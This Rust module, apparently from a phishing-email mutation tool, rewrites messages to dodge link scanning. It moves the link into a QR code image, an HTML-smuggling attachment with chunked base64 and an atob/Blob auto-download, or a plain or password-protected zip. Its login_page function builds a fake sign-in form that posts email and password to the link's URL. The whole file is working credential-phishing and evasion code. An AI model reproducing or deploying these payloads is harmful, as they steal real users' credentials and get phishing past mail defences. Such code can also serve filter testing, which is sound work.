//! Operators that move the call to action out of the body: QR code, HTML smuggling, zip and password zip.

use super::*;

/// Take every link out of the bodies: the first link (anchor or bare URL)
/// becomes `html_marker` / `text_marker`, the other anchors lose their link
/// (their text stays unless it is a URL) and other URLs go. Creates an HTML
/// body from the text one when there is none. Returns the links removed.
pub(super) fn strip_links(m: &mut Model, html_marker: &str, text_marker: &str) -> usize {
    let mut removed = 0;
    if m.html.is_none()
        && let Some(text) = &m.text
    {
        m.html = Some(text_to_html(text));
    }
    if let Some(html) = &m.html {
        let mut out = String::with_capacity(html.len() + html_marker.len());
        let mut placed = false;
        // Inside a link (anchor or form): its raw inner HTML and visible text.
        struct Capture {
            inner: String,
            visible: String,
            form: bool,
        }
        let mut anchor: Option<Capture> = None;
        let close = |anchor: &mut Option<Capture>, out: &mut String, placed: &mut bool| {
            if let Some(c) = anchor.take() {
                if !*placed {
                    out.push_str(html_marker);
                    *placed = true;
                } else if !c.form && !looks_like_link_text(&c.visible) {
                    out.push_str(&c.inner);
                }
            }
        };
        let capture = |form| Capture {
            inner: String::new(),
            visible: String::new(),
            form,
        };
        for seg in tokenize(html) {
            let raw = html.get(seg.start..seg.end).unwrap_or("");
            let in_form = anchor.as_ref().is_some_and(|c| c.form);
            match seg.kind {
                SegKind::Tag if seg.name == "form" && (in_form || !seg.closing) => {
                    close(&mut anchor, &mut out, &mut placed);
                    if seg_link(&seg, raw).is_some() {
                        removed += 1;
                        anchor = Some(capture(true));
                    } else if !seg.closing {
                        out.push_str(raw);
                    }
                }
                SegKind::Tag if seg.name == "a" && !in_form => {
                    let was_link = anchor.is_some();
                    close(&mut anchor, &mut out, &mut placed);
                    if seg.closing {
                        // The end of a removed link goes with it.
                        if !was_link {
                            out.push_str(raw);
                        }
                    } else if seg_link(&seg, raw).is_some() {
                        removed += 1;
                        anchor = Some(capture(false));
                    } else {
                        // A mailto: or other non-web anchor.
                        out.push_str(raw);
                    }
                }
                SegKind::Tag if seg.name == "area" && seg_link(&seg, raw).is_some() => {
                    removed += 1;
                }
                SegKind::Text => match &mut anchor {
                    Some(c) => {
                        c.inner.push_str(raw);
                        c.visible.push_str(&decode_entities(raw));
                    }
                    None => {
                        let cleaned = replace_urls(raw, |_| {
                            removed += 1;
                            if placed {
                                Some(String::new())
                            } else {
                                placed = true;
                                Some(html_marker.to_string())
                            }
                        });
                        out.push_str(&cleaned);
                    }
                },
                _ => match &mut anchor {
                    Some(c) => c.inner.push_str(raw),
                    None => out.push_str(raw),
                },
            }
        }
        close(&mut anchor, &mut out, &mut placed);
        if !placed {
            out = insert_after_body(&out, html_marker);
        }
        m.html = Some(out);
    }
    if let Some(text) = &m.text {
        let mut placed = false;
        let mut cleaned = String::with_capacity(text.len());
        let mut last = 0;
        for r in find_text_urls(text) {
            // Take the brackets of <URL>, (URL), [URL] along.
            let before = text.get(..r.start).and_then(|s| s.chars().last());
            let after = text.get(r.end..).and_then(|s| s.chars().next());
            let (start, end) = match (before, after) {
                (Some('<'), Some('>')) | (Some('('), Some(')')) | (Some('['), Some(']')) => {
                    (r.start - 1, r.end + 1)
                }
                _ => (r.start, r.end),
            };
            if start < last {
                continue;
            }
            cleaned.push_str(text.get(last..start).unwrap_or(""));
            if !placed {
                cleaned.push_str(text_marker);
                placed = true;
            }
            last = end;
        }
        cleaned.push_str(text.get(last..).unwrap_or(""));
        if !placed {
            cleaned = format!("{}\n\n{text_marker}\n", cleaned.trim_end());
        }
        m.text = Some(cleaned);
    }
    removed
}

/// Visible text that reads as a link: a URL, `www.`, or a lone host name.
pub(super) fn looks_like_link_text(visible: &str) -> bool {
    let t = visible.trim();
    if !find_text_urls(t).is_empty() || t.to_ascii_lowercase().contains("www.") {
        return true;
    }
    !t.contains(char::is_whitespace)
        && t.rsplit_once('.').is_some_and(|(head, tld)| {
            !head.is_empty() && tld.len() >= 2 && tld.chars().all(|c| c.is_alphabetic())
        })
}

/// Insert `snippet` right after the `<body>` tag (or at the start).
pub(super) fn insert_after_body(html: &str, snippet: &str) -> String {
    let at = tokenize(html)
        .into_iter()
        .find(|s| s.kind == SegKind::Tag && s.name == "body" && !s.closing)
        .map_or(0, |s| s.end);
    format!(
        "{}{snippet}{}",
        html.get(..at).unwrap_or(""),
        html.get(at..).unwrap_or("")
    )
}

pub(super) fn op_qr(
    m: &mut Model,
    rng: &mut Rng,
    notes: &mut Vec<String>,
) -> Result<(), MutateError> {
    let links = collect_links(m);
    let Some(url) = links.first().cloned() else {
        notes.push("qr: no links, message unchanged".into());
        return Ok(());
    };
    let code = match qrcode::QrCode::new(url.as_bytes()) {
        Ok(code) => code,
        Err(e) => {
            notes.push(format!(
                "qr: link too long for a QR code ({e}), message unchanged"
            ));
            return Ok(());
        }
    };
    let img = code
        .render::<image::Luma<u8>>()
        .min_dimensions(QR_MIN_SIZE, QR_MIN_SIZE)
        .build();
    let (w, h) = img.dimensions();
    let mut png = Vec::new();
    img.write_to(&mut Cursor::new(&mut png), image::ImageFormat::Png)
        .map_err(|e| MutateError::Build(format!("qr: encoding the PNG: {e}")))?;
    let cid = format!("image{:03}.png@{:08x}", 1 + rng.below(9), rng.next() as u32);
    let sentence = "Scan the QR code with your phone camera to continue.";
    let html_marker = format!(
        "<b>{sentence}</b><br>\n<img src=\"cid:{cid}\" alt=\"QR code\" width=\"{w}\" height=\"{h}\"><br>\n"
    );
    let removed = strip_links(m, &html_marker, sentence);
    let filename = cid.split('@').next().unwrap_or("image001.png").to_string();
    m.related.push(Part {
        content_type: "image/png".into(),
        utf8: false,
        filename: Some(filename),
        cid: Some(cid),
        inline: true,
        bytes: png,
    });
    notes.push(format!(
        "qr: link {url} moved into a {w}x{h} PNG QR code ({removed} link occurrence(s) removed from the body)"
    ));
    if links.len() > 1 {
        notes.push(format!("qr: {} other link(s) dropped", links.len() - 1));
    }
    Ok(())
}

/// A plain phishing landing page: a login form posting to `url`.
pub(super) fn login_page(url: &str, title: &str) -> String {
    let u = esc_attr(url);
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>{title}</title></head>\n\
         <body style=\"font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3\">\n\
         <div style=\"max-width:360px;margin:60px auto;background:#fff;padding:32px\">\n\
         <h2>{title}</h2>\n<p>Sign in with your email account to view this document.</p>\n\
         <form method=\"post\" action=\"{u}\">\n\
         <input type=\"email\" name=\"login\" placeholder=\"Email address\" required><br><br>\n\
         <input type=\"password\" name=\"passwd\" placeholder=\"Password\" required><br><br>\n\
         <button type=\"submit\">Sign in</button>\n</form>\n\
         <p><a href=\"{u}\">Trouble signing in?</a></p>\n</div></body></html>\n"
    )
}

pub(super) fn op_smuggle(m: &mut Model, rng: &mut Rng, notes: &mut Vec<String>) {
    let links = collect_links(m);
    let Some(url) = links.first().cloned() else {
        notes.push("smuggle: no links, message unchanged".into());
        return;
    };
    let number = 10_000 + rng.below(90_000);
    let name = format!("Document_{number}.html");
    let inner = login_page(&url, "Secure Document Portal");
    let encoded = base64::engine::general_purpose::STANDARD.encode(inner.as_bytes());
    // The payload in chunks, as kits do, so no one string holds it all.
    let chunks: Vec<String> = encoded
        .as_bytes()
        .chunks(76)
        .map(|c| format!("\"{}\"", String::from_utf8_lossy(c)))
        .collect();
    let var = ["d", "p", "x", "k"][rng.below(4)];
    let loader = format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Document</title></head>\n\
         <body><p>Loading your document, please wait...</p>\n<script>\n\
         var {var} = [\n{}\n].join(\"\");\n\
         var raw = window.atob({var});\n\
         var bytes = new Uint8Array(raw.length);\n\
         for (var i = 0; i < raw.length; i++) {{ bytes[i] = raw.charCodeAt(i); }}\n\
         var blob = new Blob([bytes], {{type: \"text/html\"}});\n\
         var name = \"{name}\";\n\
         if (window.navigator.msSaveOrOpenBlob) {{\n  window.navigator.msSaveOrOpenBlob(blob, name);\n}} else {{\n\
         \x20 var a = document.createElement(\"a\");\n  a.href = window.URL.createObjectURL(blob);\n\
         \x20 a.download = name;\n  document.body.appendChild(a);\n  a.click();\n\
         \x20 window.location.href = a.href;\n}}\n</script></body></html>\n",
        chunks.join(",\n")
    );
    let html_marker =
        format!("<b>Please open the attached document {name} to review it and sign in.</b>");
    let text_marker = format!("Please open the attached document {name} to review it and sign in.");
    let removed = strip_links(m, &html_marker, &text_marker);
    m.attachments.push(Part {
        content_type: "text/html".into(),
        utf8: true,
        filename: Some(name.clone()),
        cid: None,
        inline: false,
        bytes: loader.into_bytes(),
    });
    notes.push(format!(
        "smuggle: link {url} moved into {name}, an HTML-smuggling attachment (base64 login page, atob + Blob); {removed} link occurrence(s) removed from the body"
    ));
}

pub(super) fn op_zip(
    m: &mut Model,
    rng: &mut Rng,
    notes: &mut Vec<String>,
    encrypted: bool,
) -> Result<(), MutateError> {
    let op = if encrypted { "password-zip" } else { "zip" };
    let links = collect_links(m);
    let Some(url) = links.first().cloned() else {
        notes.push(format!("{op}: no links, message unchanged"));
        return Ok(());
    };
    let stem = rng.pick(&["Invoice", "Document", "Payment_Details", "Statement"]);
    let number = 1000 + rng.below(9000);
    let base = format!("{stem}_{number}");
    let entry = format!("{base}.html");
    let zip_name = format!("{base}.zip");
    let page = login_page(&url, "Document Viewer");
    let (zip_bytes, password) = if encrypted {
        let password = format!("{:04}", 1000 + rng.below(9000));
        let mut header = [0u8; 12];
        for b in &mut header {
            *b = rng.next() as u8;
        }
        let bytes = zipcrypto_zip(&entry, page.as_bytes(), password.as_bytes(), header)?;
        (bytes, Some(password))
    } else {
        (plain_zip(&entry, page.as_bytes())?, None)
    };
    let (html_marker, text_marker) = match &password {
        Some(pw) => (
            format!(
                "<b>Please find the document in the attached archive {zip_name}. For your security the archive is protected.</b><br>\nPassword: <b>{pw}</b><br>\n"
            ),
            format!(
                "Please find the document in the attached archive {zip_name}. For your security the archive is protected.\nPassword: {pw}"
            ),
        ),
        None => (
            format!(
                "<b>Please find the document in the attached archive {zip_name} and open the file inside to view it.</b>"
            ),
            format!(
                "Please find the document in the attached archive {zip_name} and open the file inside to view it."
            ),
        ),
    };
    let removed = strip_links(m, &html_marker, &text_marker);
    m.attachments.push(Part {
        content_type: "application/zip".into(),
        utf8: false,
        filename: Some(zip_name.clone()),
        cid: None,
        inline: false,
        bytes: zip_bytes,
    });
    match password {
        Some(pw) => notes.push(format!(
            "{op}: link {url} moved into {entry} inside {zip_name}, ZipCrypto-encrypted, password {pw} in the body; {removed} link occurrence(s) removed from the body"
        )),
        None => notes.push(format!(
            "{op}: link {url} moved into {entry} inside {zip_name}; {removed} link occurrence(s) removed from the body"
        )),
    }
    Ok(())
}

/// DOS time and date of the archive entries: 2024-01-15 09:30:00.
pub(super) const DOS_TIME: u16 = (9 << 11) | (30 << 5);
pub(super) const DOS_DATE: u16 = ((2024 - 1980) << 9) | (1 << 5) | 15;

pub(super) fn plain_zip(entry: &str, data: &[u8]) -> Result<Vec<u8>, MutateError> {
    let err = |e: zip::result::ZipError| MutateError::Build(format!("zip: {e}"));
    let when = zip::DateTime::try_from_msdos(DOS_DATE, DOS_TIME)
        .map_err(|e| MutateError::Build(format!("zip: {e}")))?;
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(when);
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file(entry, options).map_err(err)?;
    w.write_all(data)
        .map_err(|e| MutateError::Build(format!("zip: {e}")))?;
    Ok(w.finish().map_err(err)?.into_inner())
}

pub(super) const CRC_TABLE: [u32; 256] = {
    let mut t = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut c = i as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
            k += 1;
        }
        t[i] = c;
        i += 1;
    }
    t
};

pub(super) fn crc32_byte(crc: u32, b: u8) -> u32 {
    CRC_TABLE[((crc ^ u32::from(b)) & 0xff) as usize] ^ (crc >> 8)
}

pub(super) fn crc32(data: &[u8]) -> u32 {
    !data.iter().fold(!0u32, |c, &b| crc32_byte(c, b))
}

/// Traditional PKWARE encryption ("ZipCrypto"): zip 2.x reads it but does
/// not write it.
pub(super) struct ZipCrypto {
    pub(super) k0: u32,
    pub(super) k1: u32,
    pub(super) k2: u32,
}

impl ZipCrypto {
    pub(super) fn new(password: &[u8]) -> ZipCrypto {
        let mut k = ZipCrypto {
            k0: 0x1234_5678,
            k1: 0x2345_6789,
            k2: 0x3456_7890,
        };
        for &b in password {
            k.update(b);
        }
        k
    }

    pub(super) fn update(&mut self, plain: u8) {
        self.k0 = crc32_byte(self.k0, plain);
        self.k1 = self
            .k1
            .wrapping_add(self.k0 & 0xff)
            .wrapping_mul(134_775_813)
            .wrapping_add(1);
        self.k2 = crc32_byte(self.k2, (self.k1 >> 24) as u8);
    }

    pub(super) fn encrypt(&mut self, plain: u8) -> u8 {
        let t = (self.k2 | 2) & 0xffff;
        let key = (t.wrapping_mul(t ^ 1) >> 8) as u8;
        self.update(plain);
        plain ^ key
    }
}

/// A one-entry archive, stored, ZipCrypto-encrypted with `password`;
/// `header` is the random part of the encryption header.
pub(super) fn zipcrypto_zip(
    entry: &str,
    data: &[u8],
    password: &[u8],
    mut header: [u8; 12],
) -> Result<Vec<u8>, MutateError> {
    let too_big = || MutateError::Build("password-zip: page too large".into());
    let crc = crc32(data);
    // The last header byte checks the password: the CRC's high byte.
    header[11] = (crc >> 24) as u8;
    let mut keys = ZipCrypto::new(password);
    let mut payload = Vec::with_capacity(data.len() + 12);
    payload.extend(header.iter().map(|&b| keys.encrypt(b)));
    payload.extend(data.iter().map(|&b| keys.encrypt(b)));
    let csize = u32::try_from(payload.len()).map_err(|_| too_big())?;
    let usize_ = u32::try_from(data.len()).map_err(|_| too_big())?;
    let name = entry.as_bytes();
    let name_len = u16::try_from(name.len()).map_err(|_| too_big())?;
    let flags: u16 = if entry.is_ascii() { 0x0001 } else { 0x0801 };
    let mut out = Vec::with_capacity(payload.len() + 2 * name.len() + 100);
    let put16 = |out: &mut Vec<u8>, v: u16| out.extend_from_slice(&v.to_le_bytes());
    let put32 = |out: &mut Vec<u8>, v: u32| out.extend_from_slice(&v.to_le_bytes());
    // Local file header.
    put32(&mut out, 0x0403_4b50);
    put16(&mut out, 20);
    put16(&mut out, flags);
    put16(&mut out, 0); // stored
    put16(&mut out, DOS_TIME);
    put16(&mut out, DOS_DATE);
    put32(&mut out, crc);
    put32(&mut out, csize);
    put32(&mut out, usize_);
    put16(&mut out, name_len);
    put16(&mut out, 0);
    out.extend_from_slice(name);
    out.extend_from_slice(&payload);
    // Central directory.
    let cd_start = u32::try_from(out.len()).map_err(|_| too_big())?;
    put32(&mut out, 0x0201_4b50);
    put16(&mut out, 20);
    put16(&mut out, 20);
    put16(&mut out, flags);
    put16(&mut out, 0);
    put16(&mut out, DOS_TIME);
    put16(&mut out, DOS_DATE);
    put32(&mut out, crc);
    put32(&mut out, csize);
    put32(&mut out, usize_);
    put16(&mut out, name_len);
    put16(&mut out, 0); // extra
    put16(&mut out, 0); // comment
    put16(&mut out, 0); // disk
    put16(&mut out, 0); // internal attributes
    put32(&mut out, 0); // external attributes
    put32(&mut out, 0); // local header offset
    out.extend_from_slice(name);
    let cd_size = u32::try_from(out.len()).map_err(|_| too_big())? - cd_start;
    // End of central directory.
    put32(&mut out, 0x0605_4b50);
    put16(&mut out, 0);
    put16(&mut out, 0);
    put16(&mut out, 1);
    put16(&mut out, 1);
    put32(&mut out, cd_size);
    put32(&mut out, cd_start);
    put16(&mut out, 0);
    Ok(out)
}
